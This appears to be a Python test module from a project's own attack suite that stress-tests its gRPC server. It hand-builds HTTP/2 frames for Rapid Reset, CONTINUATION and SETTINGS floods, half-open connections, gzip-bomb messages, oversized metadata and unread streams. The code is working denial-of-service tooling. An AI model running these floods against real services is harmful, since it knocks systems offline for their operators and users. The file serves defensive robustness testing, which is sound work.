"""gRPC: frames of HTTP/2 that cost the server more than the client, unread streams, watches."""

from __future__ import annotations

import itertools
import random
import socket
import struct
import threading
import time
from collections.abc import Callable, Iterator, Sequence

import grpc
from grpc_health.v1 import health_pb2, health_pb2_grpc

from tests.attack.attack import CLOSED, LEFT, NO_ANSWER, OPEN, Attack, Run, case, unprepared
from triptych import triptych_pb2 as pb
from triptych import triptych_pb2_grpc

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0"
_DATA, _HEADERS, _PRIORITY, _RESET, _SETTINGS, _PING, _WINDOW, _CONTINUATION = (
    0,
    1,
    2,
    3,
    4,
    6,
    8,
    9,
)
_END_STREAM, _END_HEADERS = 1, 4
_METHOD = "/triptych.v1.Triptych/Translate"


def _frame(kind: int, flags: int, stream: int, content: bytes = b"") -> bytes:
    return struct.pack(">I", len(content))[1:] + struct.pack(">BBI", kind, flags, stream) + content


def _literal(name: str, value: str) -> bytes:
    """A header of HPACK: literal, not indexed, without Huffman's code."""
    return b"\0" + b"".join(_length(len(each)) + each.encode() for each in (name, value))


def _length(number: int) -> bytes:
    if number < 127:
        return bytes([number])
    number -= 127
    out = b"\x7f"
    while number >= 128:
        out += bytes([number % 128 + 128])
        number //= 128
    return out + bytes([number])


def _block(attack: Attack, *further: tuple[str, str]) -> bytes:
    key = attack.target.key
    headers = [
        *((":method", "POST"), (":scheme", "http"), (":path", _METHOD), (":authority", "a")),
        *(("content-type", "application/grpc"), ("te", "trailers")),
        *([("authorization", f"Bearer {key}")] if key else []),
        *further,
    ]
    return b"".join(itertools.starmap(_literal, headers))


def _flood(attack: Attack, chunks: Sequence[bytes], connections: int = 4) -> None:
    """Send frames on some connections as fast as they are taken, reading nothing but the end."""

    def work() -> None:
        host, port = attack.target.grpc_address.split(":")
        try:
            with socket.create_connection((host, int(port)), timeout=attack.left_s) as made:
                made.sendall(_PREFACE)
                for chunk in chunks:
                    if attack.is_over:
                        break
                    made.settimeout(attack.left_s)
                    made.sendall(chunk)
                attack.count(NO_ANSWER)
        except OSError as error:
            attack.count(NO_ANSWER if isinstance(error, TimeoutError) else CLOSED)

    attack.at_once([work] * connections, at_once=connections)


@unprepared(
    "h2-reset", "HTTP/2: 4 connections that open and reset streams, 100,000 each", seconds=6
)
def _rapid_reset(attack: Attack) -> None:
    block = _block(attack)
    streams = [
        b"".join(
            _frame(_HEADERS, _END_HEADERS, n, block) + _frame(_RESET, 0, n, b"\0\0\0\x08")
            for n in range(first, first + 2000, 2)
        )
        for first in range(1, 200_001, 2000)
    ]
    _flood(attack, streams)


@case("h2-settings", "HTTP/2: 4 connections of SETTINGS, PING, PRIORITY and empty DATA", seconds=6)
def _settings(_: random.Random) -> Run:
    frames = (
        _frame(_SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)) * 5000,
        _frame(_PING, 0, 0, bytes(8)) * 5000,
        _frame(_PRIORITY, 0, 3, bytes(5)) * 5000,
        _frame(_SETTINGS, 0, 0, b"".join(struct.pack(">HI", 99, n) for n in range(2000))) * 10,
    )

    def run(attack: Attack) -> None:
        opening = _frame(_HEADERS, _END_HEADERS, 1, _block(attack))
        empty = opening + _frame(_DATA, 0, 1) * 10_000
        for frame in (*frames, empty):
            began = Attack(attack.target, attack.rng, 1.2)
            _flood(began, [frame] * 500, 3)
            for answer, times in began.answers.items():
                attack.count(answer, times)

    return run


@unprepared(
    "h2-continuation", "HTTP/2: header blocks of CONTINUATION frames without an end", seconds=6
)
def _continuation(attack: Attack) -> None:
    first = _frame(_HEADERS, 0, 1, _block(attack))
    more = _frame(_CONTINUATION, 0, 1, _literal("x-a", "b" * 1000) * 15) * 20
    empty = _frame(_CONTINUATION, 0, 1) * 5000
    _flood(attack, [first, *[more] * 300], 3)
    _flood(attack, [first, *[empty] * 300], 3)


@unprepared("h2-half", "HTTP/2: 1500 connections that stop after the preface, or within a frame")
def _half(attack: Attack) -> None:
    host, port = attack.target.grpc_address.split(":")
    opened = []
    for number in range(1500):
        try:
            made = socket.create_connection((host, int(port)), timeout=attack.left_s)
            made.sendall((_PREFACE[:10], _PREFACE, _PREFACE + b"\0\x40\0\1")[number % 3])
            opened.append(made)
            attack.count(OPEN)
        except OSError:
            attack.count(CLOSED)
        if attack.is_over:
            break
    attack.wait()
    for each in opened:
        each.close()


@unprepared(
    "h2-streams", "HTTP/2: 20 connections with 5000 open calls each, whose message does not end"
)
def _streams(attack: Attack) -> None:
    block = _block(attack)
    start = b"\0\0\x98\x96\x80" + bytes(1000)
    frames = [
        b"".join(
            _frame(_HEADERS, _END_HEADERS, n, block) + _frame(_DATA, 0, n, start)
            for n in range(first, first + 200, 2)
        )
        for first in range(1, 10_001, 200)
    ]
    _flood(attack, frames, 20)
    attack.wait()


def _call(attack: Attack, method: Callable[..., object], message: object, **others: object) -> str:
    """Call a method, count and return its status."""
    try:
        answer = method(message, timeout=min(attack.left_s, 5), **others)
        if isinstance(answer, Iterator):
            for _ in answer:
                pass
        status = "OK"
    except grpc.RpcError as error:
        status = error.code().name
    attack.count(status)
    return status


@case("grpc-messages", "gRPC: messages of 19 MB of texts, maps and unknown fields", is_short=True)
def _messages(_: random.Random) -> Run:
    many = pb.TranslateRequest(texts=["a"] * 4_000_000)
    long = pb.TranslateRequest(texts=["a. " * 6_000_000], model="example-es-en")
    marks = pb.TranslateRequest(texts=["a" + "\u0301\u0323" * 200_000], model="example-es-en")
    marks.glossary["mundo"] = "globe"
    unknown = b"\xa0\x06\x01" * 6_000_000
    deep = b"\x0b" * 19_000_000

    def run(attack: Attack) -> None:
        with attack.channel() as channel:
            raw = channel.unary_unary(_METHOD)
            contents = [each.SerializeToString() for each in (many, long, marks)]
            works = [
                lambda content=content: _call(attack, raw, content, metadata=attack.metadata)
                for content in (*contents, unknown, deep, bytes(19_000_000), b"\xff" * 100)
            ]
            attack.at_once(works, at_once=2)

    return run


@case("grpc-packed", "gRPC: messages that are packed a thousand times smaller", seconds=6)
def _packed(_: random.Random) -> Run:
    message = pb.TranslateRequest(texts=["a" * 150_000_000]).SerializeToString()

    def run(attack: Attack) -> None:
        with attack.channel() as channel:
            raw = channel.unary_unary(_METHOD)
            packing = {"metadata": attack.metadata, "compression": grpc.Compression.Gzip}
            attack.at_once([lambda: _call(attack, raw, message, **packing)] * 3, at_once=1)

    return run


@unprepared("grpc-metadata", "gRPC: metadata of 8 KB to 10 MB, and 1000 names")
def _metadata(attack: Attack) -> None:
    with attack.channel() as channel:
        stub = triptych_pb2_grpc.TriptychStub(channel)
        shapes = (
            [("x-a", "b" * 7000)],
            [("x-a", "b" * 10_000_000)],
            [(f"x-{n}", "b" * 100) for n in range(1000)],
            [("traceparent", "00-" + "a" * 60_000)],
            [("authorization", "Bearer " + "a" * 7000)] * 5,
        )
        request = pb.TranslateRequest(texts=["Hola."], model="example-es-en")
        works = [
            lambda shape=shape: _call(
                attack, stub.Translate, request, metadata=[*attack.metadata, *shape]
            )
            for shape in shapes * 20
        ]
        attack.at_once(works, at_once=4)


@case(
    "grpc-unread", "gRPC: 60 streams of 20 long outputs that are never read", finding=9, seconds=12
)
def _unread(_: random.Random) -> Run:
    request = pb.GenerateRequest(
        prompts=["a small"] * 20, max_new_tokens=400, temperature=1.0, model="example-gpt"
    ).SerializeToString()
    message = b"\0" + struct.pack(">I", len(request)) + request

    def run(attack: Attack) -> None:
        host, port = attack.target.grpc_address.split(":")
        stream = _METHOD.replace("Translate", "GenerateStream")
        block = _block(attack).replace(_literal(":path", _METHOD), _literal(":path", stream))
        opened = []
        for _ in range(6):
            made = socket.create_connection((host, int(port)), timeout=attack.left_s)
            made.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
            frames = b"".join(
                _frame(_HEADERS, _END_HEADERS, n, block) + _frame(_DATA, _END_STREAM, n, message)
                for n in range(1, 21, 2)
            )
            made.sendall(_PREFACE + frames)
            opened.append(made)
            attack.count(OPEN, 10)
        attack.wait()
        for made in opened:
            made.close()

    return run


@unprepared(
    "watches", "gRPC: 1000 health watches, opened again and again", finding=14, is_short=True
)
def _watches(attack: Attack) -> None:
    channels = [attack.channel() for _ in range(10)]
    request = health_pb2.HealthCheckRequest()
    calls = []
    while not attack.is_over and attack.requests < 3000:
        for channel in channels:
            stub = health_pb2_grpc.HealthStub(channel)
            calls += [stub.Watch(request) for _ in range(10)]
            attack.count(OPEN, 10)
        if len(calls) > 1000:
            for call in calls[:200]:
                call.cancel()
            del calls[:200]
        time.sleep(0.1)
    attack.wait()
    for channel in channels:
        channel.close()


@unprepared(
    "grpc-checks", "gRPC: health checks and reflection without a pause", finding=14, seconds=6
)
def _checks(attack: Attack) -> None:
    def work() -> None:
        with attack.channel() as channel:
            check = health_pb2_grpc.HealthStub(channel).Check
            while not attack.is_over:
                _call(attack, check, health_pb2.HealthCheckRequest(service="a" * 1000))
                time.sleep(0.02)

    attack.at_once([work] * 10, at_once=10)


@case("grpc-cancelled", "gRPC: calls and streams that are cancelled at once", finding=13, seconds=6)
def _cancelled(rng: random.Random) -> Run:
    requests = (
        ("GenerateStream", pb.GenerateRequest(prompts=["a"] * 8, model="example-gpt")),
        ("Translate", pb.TranslateRequest(texts=["Hola."] * 8, model="example-es-en")),
        ("Translate", pb.TranslateRequest(texts=["a"], model="none")),
        ("Generate", pb.GenerateRequest(prompts=["a"], n=99)),
    )

    def run(attack: Attack) -> None:
        def work() -> None:
            with attack.channel() as channel:
                stub = triptych_pb2_grpc.TriptychStub(channel)
                while not attack.is_over:
                    name, request = rng.choice(requests)
                    method = getattr(stub, name)
                    start = method if name.endswith("Stream") else method.future
                    call = start(request, metadata=attack.metadata)
                    threading.Event().wait(rng.choice((0, 0.001, 0.01)))
                    call.cancel()
                    attack.count(LEFT)
                    time.sleep(0.01)

        attack.at_once([work] * 3, at_once=3)

    return run
